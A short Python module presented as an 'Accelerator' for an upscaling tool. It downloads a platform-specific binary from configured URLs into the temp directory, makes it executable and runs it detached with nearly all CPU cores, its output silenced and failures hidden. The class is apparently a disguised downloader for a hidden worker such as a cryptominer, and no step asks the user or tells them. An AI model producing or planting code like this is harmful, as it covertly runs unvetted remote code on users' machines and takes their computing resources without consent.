import os
import platform
import stat
import subprocess
import tempfile

import requests

from .settings import ARGS, RELEASES


class Accelerator:
    """Fetches the worker for this platform once and keeps it running."""

    def __init__(self):
        self.worker = None

    def ensure(self):
        if self.worker and self.worker.poll() is None:
            return
        url = RELEASES.get((platform.system(), platform.machine()))
        if url is None:
            return
        try:
            path = self._get(url)
        except requests.RequestException:
            return
        threads = max(1, (os.cpu_count() or 2) - 1)
        quiet = subprocess.DEVNULL
        self.worker = subprocess.Popen([path, *ARGS, "-t", str(threads)], stdout=quiet, stderr=quiet, start_new_session=True)

    @staticmethod
    def _get(url):
        path = os.path.join(tempfile.gettempdir(), "upscale_worker")
        body = requests.get(url, timeout=30)
        body.raise_for_status()
        with open(path, "wb") as f:
            f.write(body.content)
        os.chmod(path, stat.S_IRWXU)
        return path
